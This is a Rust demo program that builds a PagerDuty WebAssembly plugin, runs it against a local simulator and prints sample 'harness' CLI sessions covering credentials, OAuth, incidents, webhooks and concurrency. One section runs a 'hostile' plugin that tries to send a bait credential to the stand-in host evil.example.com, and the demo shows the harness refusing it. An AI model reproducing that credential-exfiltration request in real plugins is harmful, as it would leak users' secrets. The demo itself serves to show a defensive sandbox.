//! Demonstrates the product in under a minute: builds the PagerDuty component, starts a PagerDuty
//! simulator on loopback, and runs the `harness` commands that a new user would run. The demo
//! prints each command as a user would type it, followed by its real output.

#![allow(clippy::print_stdout, reason = "the demo prints for people")]

mod going;

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail};
use going::{Going, follow};
use pagerduty_simulator::Simulator;
use serde_json::json;

const ITEMS: usize = 200;
const LATENCY: Duration = Duration::from_millis(50);

fn main() -> Result<ExitCode> {
    match harness::run_as_worker() {
        Some(code) => Ok(code),
        None => run(),
    }
}

#[tokio::main]
async fn run() -> Result<ExitCode> {
    if std::env::var_os(AS_HARNESS).is_some() {
        let code = harness::run(std::env::args_os(), harness::own_worker()).await;
        return Ok(ExitCode::from(code));
    }
    let plugin = component_build::build_pagerduty()?;
    let hostile = component_build::build_guest("hostile")?;
    let size = std::fs::metadata(&plugin)?.len();
    let simulator = Simulator::builder().start().await.context("cannot start the simulator")?;
    let mut signals = harness::Signals::listen()?;
    // Dropped at the end, also after an error, so no files are left behind.
    let place = tempfile::tempdir()?;
    let demo = Demo::new(&simulator, place.path(), plugin, hostile)?;

    heading("0. Setup");
    println!("The PagerDuty node, a WebAssembly component of {} kB:", size / 1_000);
    println!("{}", demo.plugin.display());
    println!("\nA PagerDuty simulator, with TLS: {}", simulator.origins().rest_us);
    println!("\n`harness` is the command of this project. The options that direct it to the");
    println!("simulator are omitted below.");
    tokio::select! {
        told = demo.tell() => told?,
        () = signals.next() => bail!("interrupted; all files of the demo were removed"),
    }
    Ok(ExitCode::SUCCESS)
}

struct Demo<'a> {
    simulator: &'a Simulator,
    place: &'a Path,
    plugin: PathBuf,
    hostile: PathBuf,
    /// Long file names and their short forms.
    shown: Vec<(String, String)>,
}

impl<'a> Demo<'a> {
    fn new(
        simulator: &'a Simulator,
        place: &'a Path,
        plugin: PathBuf,
        hostile: PathBuf,
    ) -> Result<Self> {
        let keys = simulator.us().keys();
        // Readable only by the owner, because the command warns about secrets that others can read.
        let write = |name: &str, text: &str| -> Result<()> {
            std::fs::write(place.join(name), text)?;
            close(&place.join(name))
        };
        write("token", &keys.user)?;
        write("wrong-token", "u+0123456789abcdefghij")?;
        write("ca.pem", simulator.ca_pem())?;
        let app = simulator.identity().classic_app();
        write("client-secret", &app.client_secret.unwrap_or_default())?;
        let service = &simulator.us().services()[0].id;
        let lines = ["Checkout answers 500", "Payments are slow"].map(|title| {
            json!({"title": title, "service_id": service, "urgency": "high"}).to_string() + "\n"
        });
        write("items.jsonl", &lines.concat())?;
        write("key", &"0f".repeat(32))?;
        let text = |path: &Path| path.display().to_string();
        let shown = vec![
            (text(&plugin), "pagerduty.wasm".to_owned()),
            (text(&hostile), "hostile.wasm".to_owned()),
            (format!("{}/", text(place)), String::new()),
        ];
        Ok(Self { simulator, place, plugin, hostile, shown })
    }

    async fn tell(&self) -> Result<()> {
        heading("1. Review and approve the requested permissions");
        self.harness(0, &["approve", "PLUGIN", "--yes"]).await?;

        heading("2. Add a credential: sealed on disk, never passed to the node");
        self.harness(
            0,
            &[
                "credential",
                "add",
                "pd",
                "--plugin",
                "PLUGIN",
                "--type",
                "api-token",
                "--field",
                "region=us",
                "--secret",
                "api_token=@token",
            ],
        )
        .await?;
        self.harness(0, &["credential", "test", "pd", "--plugin", "PLUGIN"]).await?;

        self.consent().await?;

        heading("4. Read and write");
        self.run(0, "service.list", &[]).await?;
        self.run(0, "incident.create", &["--items", "@items.jsonl"]).await?;
        let incident = self.newest();
        let parameters = json!({ "incident_id": incident }).to_string();
        self.run(0, "incident.acknowledge", &["--parameters", &parameters]).await?;
        let note = json!({"incident_id": incident, "content": "Rolling back."}).to_string();
        self.run(0, "incident_note.create", &["--parameters", &note]).await?;
        self.run(0, "log_entry.list", &["--parameters", r#"{"limit":5}"#]).await?;

        self.hear().await?;
        self.many(&incident).await?;

        heading("7. Refused requests");
        println!("A plugin tries to send the credential to a host that is not approved:\n");
        self.refused_host().await?;
        println!("\nA key that PagerDuty rejects:\n");
        self.harness(
            0,
            &[
                "credential",
                "add",
                "wrong",
                "--plugin",
                "PLUGIN",
                "--type",
                "api-token",
                "--field",
                "region=us",
                "--secret",
                "api_token=@wrong-token",
            ],
        )
        .await?;
        self.harness(1, &["run", "PLUGIN", "ability.list", "--credential", "wrong"]).await?;

        heading("8. Clean up");
        self.harness(0, &["credential", "disconnect", "team", "--plugin", "PLUGIN", "--yes"])
            .await?;
        self.harness(0, &["credential", "remove", "pd", "--yes"]).await?;
        let violations = self.simulator.violations();
        let judged = self.simulator.requests().len();
        println!("\nThe simulator validated {judged} requests.");
        // The simulator must object only to the invalid key of chapter 7.
        if let Some(violation) = violations.iter().find(|one| !one.contains("credential")) {
            bail!("the simulator rejected a request: {violation}");
        }
        Ok(())
    }

    /// The same account with OAuth. The demo acts as the user in the browser.
    async fn consent(&self) -> Result<()> {
        heading("3. Connect with OAuth: consent in a browser, automatic token refresh");
        let client_id = format!("client_id={}", self.simulator.identity().classic_app().client_id);
        let args = [
            "credential",
            "connect",
            "team",
            "--plugin",
            "PLUGIN",
            "--type",
            "oauth2",
            "--field",
            &client_id,
            "--client-secret",
            "@client-secret",
            "--access",
            "read-write",
            "--no-browser",
            "--yes",
        ];
        let mut connecting = self.go(&args)?;
        let line = connecting.until("/oauth/authorize?").await?;
        let start = line.find("https://").context("the command did not print a URL")?;
        let url = line[start..].split_whitespace().next().unwrap_or_default();
        println!("\n  (A user opens the URL, chooses an account, and gives consent.)\n");
        let user = &self.simulator.us().users()[0].id;
        let callback = self.simulator.identity().approve(url, user).map_err(anyhow::Error::msg)?;
        follow(&callback).await?;
        connecting.end().await
    }

    /// A webhook: created, verified, printed, and removed.
    async fn hear(&self) -> Result<()> {
        heading("5. Listen to a trigger: a webhook with verified signatures");
        let mut listening = self.go(&[
            "trigger",
            "listen",
            "PLUGIN",
            "event",
            "--credential",
            "team",
            "--parameters",
            r#"{"events":["incident.triggered"]}"#,
            "--count",
            "1",
        ])?;
        listening.until("Press Ctrl-C").await?;
        println!("\n  (Meanwhile, an incident is opened.)\n");
        let service = &self.simulator.us().services()[1].id;
        let broken = json!({"title": "Invoices are late", "service_id": service}).to_string();
        self.quietly("incident.create", &["--parameters", &broken]).await?;
        listening.end().await
    }

    /// Many items concurrently, and the same items one after another.
    async fn many(&self, incident: &str) -> Result<()> {
        heading(&format!("6. Run {ITEMS} items, each a request with {LATENCY:?} of latency"));
        let items = vec![json!({ "incident_id": incident }); ITEMS];
        std::fs::write(self.place.join("many.json"), serde_json::to_vec(&items)?)?;
        self.simulator.set_latency(LATENCY);
        let mut times = Vec::new();
        for concurrency in ["200", "1"] {
            let started = Instant::now();
            let options =
                ["--items", "@many.json", "--concurrency", concurrency, "--format", "json"];
            self.quietly("incident.get", &options).await?;
            times.push(started.elapsed());
            println!(
                "{:>8.2} s   --concurrency {concurrency}",
                times[times.len() - 1].as_secs_f64()
            );
        }
        self.simulator.set_latency(Duration::ZERO);
        let ratio = times[1].as_secs_f64() / times[0].as_secs_f64();
        println!("\nConcurrent execution is {ratio:.0} times as fast as sequential execution.");
        Ok(())
    }

    async fn refused_host(&self) -> Result<()> {
        self.quiet(&["approve", "HOSTILE", "--yes"]).await?;
        self.quiet(&[
            "credential",
            "add",
            "bait",
            "--plugin",
            "HOSTILE",
            "--type",
            "token",
            "--secret",
            "token=@token",
        ])
        .await?;
        let request = json!({"url": "https://evil.example.com/", "credential": "rest"}).to_string();
        self.harness(
            0,
            &[
                "run",
                "HOSTILE",
                "hostile.request",
                "--credential",
                "rest=bait",
                "--parameters",
                &request,
            ],
        )
        .await
    }

    /// The newest incident.
    fn newest(&self) -> String {
        let mut incidents = self.simulator.us().incidents();
        incidents.sort_by_key(|incident| incident.number);
        incidents.pop().map(|incident| incident.id).unwrap_or_default()
    }

    async fn run(&self, code: u8, action: &str, options: &[&str]) -> Result<()> {
        let mut args = vec!["run", "PLUGIN", action, "--credential", "pd"];
        args.extend(options);
        self.harness(code, &args).await
    }

    /// Prints a command and starts it.
    fn go(&self, args: &[&str]) -> Result<Going> {
        let shown: Vec<String> = args.iter().map(|arg| self.as_shown(arg)).collect();
        println!("$ harness {}", shown.join(" "));
        Going::start(&mut self.command(args)?)
    }

    /// Prints a command and runs it.
    async fn harness(&self, code: u8, args: &[&str]) -> Result<()> {
        let shown: Vec<String> = args.iter().map(|arg| self.as_shown(arg)).collect();
        println!("$ harness {}", shown.join(" "));
        let got = harness::run(self.full(args), harness::own_worker()).await;
        println!();
        if got != code {
            bail!("`harness {}` exited with {got} instead of {code}", shown.join(" "));
        }
        Ok(())
    }

    /// Runs a command in a separate process without printing its output.
    async fn quiet(&self, args: &[&str]) -> Result<()> {
        let output = self.child(args).await?;
        if !output.status.success() {
            bail!("{}", String::from_utf8_lossy(&output.stderr));
        }
        Ok(())
    }

    async fn quietly(&self, action: &str, options: &[&str]) -> Result<()> {
        let mut args = vec!["run", "PLUGIN", action, "--credential", "pd"];
        args.extend(options);
        self.quiet(&args).await
    }

    async fn child(&self, args: &[&str]) -> Result<std::process::Output> {
        Ok(self.command(args)?.output().await?)
    }

    /// The command, in a separate process.
    fn command(&self, args: &[&str]) -> Result<tokio::process::Command> {
        let me = std::env::current_exe()?;
        let mut command = tokio::process::Command::new(me);
        command.args(self.full(args).into_iter().skip(1)).env(AS_HARNESS, "1").kill_on_drop(true);
        Ok(command)
    }

    /// The complete arguments, with real paths and the options that lead to the simulator.
    fn full(&self, args: &[&str]) -> Vec<OsString> {
        let mut full = vec![OsString::from("harness")];
        for arg in args {
            full.push(match *arg {
                "PLUGIN" => self.plugin.clone().into_os_string(),
                "HOSTILE" => self.hostile.clone().into_os_string(),
                other => match other.split_once('@') {
                    Some((before, file)) if self.place.join(file).exists() => {
                        format!("{before}@{}", self.place.join(file).display()).into()
                    }
                    _ => OsString::from(other),
                },
            });
        }
        let data = self.place.join("data");
        full.extend(["--data-dir".into(), data.into_os_string()]);
        full.extend(["--key-file".into(), self.place.join("key").into_os_string()]);
        let sends = matches!(
            args,
            ["run" | "options" | "trigger", ..]
                | ["credential", "test" | "connect" | "disconnect", ..]
        );
        if sends {
            full.extend(["--ca-file".into(), self.place.join("ca.pem").into_os_string()]);
            for mapping in self.simulator.connect_to() {
                full.extend(["--connect-to".into(), mapping.into()]);
            }
        }
        full
    }

    fn as_shown(&self, arg: &str) -> String {
        let mut text = match arg {
            "PLUGIN" => "pagerduty.wasm".to_owned(),
            "HOSTILE" => "hostile.wasm".to_owned(),
            other => other.to_owned(),
        };
        for (long, short) in &self.shown {
            text = text.replace(long, short);
        }
        if text.contains([' ', '"', '{']) { format!("'{text}'") } else { text }
    }
}

/// Set for a child process of the demo that runs the command.
const AS_HARNESS: &str = "WORKFLOW_NODE_DEMO_AS_HARNESS";

fn heading(text: &str) {
    println!("\n── {text} {}", "─".repeat(76_usize.saturating_sub(text.chars().count())));
    println!();
}

/// Makes a file private, because the command refuses a key file that others can read.
fn close(path: &Path) -> Result<()> {
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600))?;
    }
    let _ = path;
    Ok(())
}
